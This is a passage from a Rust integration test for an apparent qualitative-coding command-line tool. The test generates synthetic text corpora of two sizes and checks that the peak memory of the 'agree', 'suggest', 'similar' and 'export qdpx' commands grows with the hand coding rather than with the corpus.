            text.push_str(WORDS[next() % WORDS.len()]);
        }
        if next() % 3 == 0 {
            text.push_str(" and trust grew");
        }
        text.push_str(".\n\n");
    }
    text
}

/// `agree`, `suggest`, `similar` and `export qdpx` read a finished run a slice of rows at a
/// time and keep only the documents a hand coding names: the same hand coding on a corpus five
/// times larger costs them little more memory (they held the whole coded corpus, about four
/// times its size, before). The slices reach their full size on the smaller corpus already;
/// mimalloc is told to return freed pages at once, so that the peak is what was held.
#[test]
fn workbench_memory_follows_the_hand_coding_not_the_corpus() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(&dir.path().join("codebook.toml"), TRUST);
    // The hand coding: the first paragraph of each of the first three documents, by its
    // characters (the documents are ASCII).
    let mut gold = String::from("document,unit,trust\n");
    for n in 0..3 {
        let end = plain_document(n).find(".\n\n").expect("a paragraph") + 1;
        gold.push_str(&format!("d{n:04}.txt,chars:0-{end},yes\n"));
    }
    write(&dir.path().join("gold.csv"), gold);
    let (small_docs, large_docs) = (200, 1000);
    for n in 0..large_docs {
        let text = plain_document(n);
        if n < small_docs {
            write(&dir.path().join(format!("small/d{n:04}.txt")), &text);
        }
        write(&dir.path().join(format!("large/d{n:04}.txt")), &text);
    }
    let limit = Duration::from_secs(300);
    let peaks = |corpus: &str| -> Vec<(&'static str, f64)> {
        let run = coded(dir.path(), corpus, "codebook.toml", &[], limit);
        assert_eq!(run.code, 0, "{}", run.stderr);
        let from = [
            "--from",
            "o",
            "--corpus",
            corpus,
            "--codebook",
            "codebook.toml",
        ];
        let commands: [(&str, Vec<&str>); 5] = [
            (
                "agree",
                vec![
                    "agree",
                    "--gold",
                    "gold.csv",
                    "--bootstrap",
                    "0",
                    "--out",
                    "o",
                ],
            ),
            ("suggest", vec!["suggest", "trust", "--gold", "gold.csv"]),
            ("similar", vec!["similar", "trust"]),
            (
                "similar --gold",
                vec!["similar", "trust", "--gold", "gold.csv"],
            ),
            ("export qdpx", vec!["export", "qdpx", "--out", "o.qdpx"]),
        ];
        commands
            .into_iter()
            .map(|(name, mut args)| {
                args.extend(from);
                let done = measured(dir.path(), &args, &[("MIMALLOC_PURGE_DELAY", "0")], limit);
                assert_eq!(done.code, 0, "{name} on {corpus}: {}", done.stderr);
                (name, done.peak_mb)
            })
            .collect()
    };
    let (small, large) = (peaks("small"), peaks("large"));
    let grown_mb = ((large_docs - small_docs) * 100_000) as f64 / (1 << 20) as f64;
    for ((name, before), (_, after)) in small.iter().zip(&large) {
        eprintln!(
            "{name}: {before:.0} MB on {small_docs} documents, {after:.0} MB on {large_docs} ({grown_mb:.0} MB more text)"
        );
        assert!(
            after - before < 0.4 * grown_mb,
            "{name}: {before:.0} MB on {small_docs} documents, {after:.0} MB on {large_docs}: memory follows the corpus"
        );
    }
}
